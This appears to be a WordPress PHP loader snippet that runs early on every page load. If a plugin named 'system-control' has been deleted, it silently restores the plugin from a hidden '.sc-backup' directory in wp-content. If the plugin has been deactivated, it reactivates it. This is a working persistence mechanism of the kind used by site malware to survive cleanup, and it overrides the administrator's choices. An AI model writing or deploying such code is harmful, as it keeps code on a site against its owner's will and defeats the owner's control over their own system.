add_action('plugins_loaded', function() {
    $plugin_dir = WP_PLUGIN_DIR . '/system-control';
    $main_file  = $plugin_dir . '/system-control.php';
    $backup_dir = WP_CONTENT_DIR . '/.sc-backup/system-control';

    if ((!is_dir($plugin_dir) || !is_file($main_file)) && is_dir($backup_dir)) {
        sc_loader_copy_dir($backup_dir, $plugin_dir);
        include_once ABSPATH . 'wp-admin/includes/plugin.php';
        activate_plugin('system-control/system-control.php');
    }

    if (is_file($main_file)) {
        include_once ABSPATH . 'wp-admin/includes/plugin.php';
        if (function_exists('is_plugin_active') && !is_plugin_active('system-control/system-control.php')) {
            activate_plugin('system-control/system-control.php');
        }
    }
}, 1);
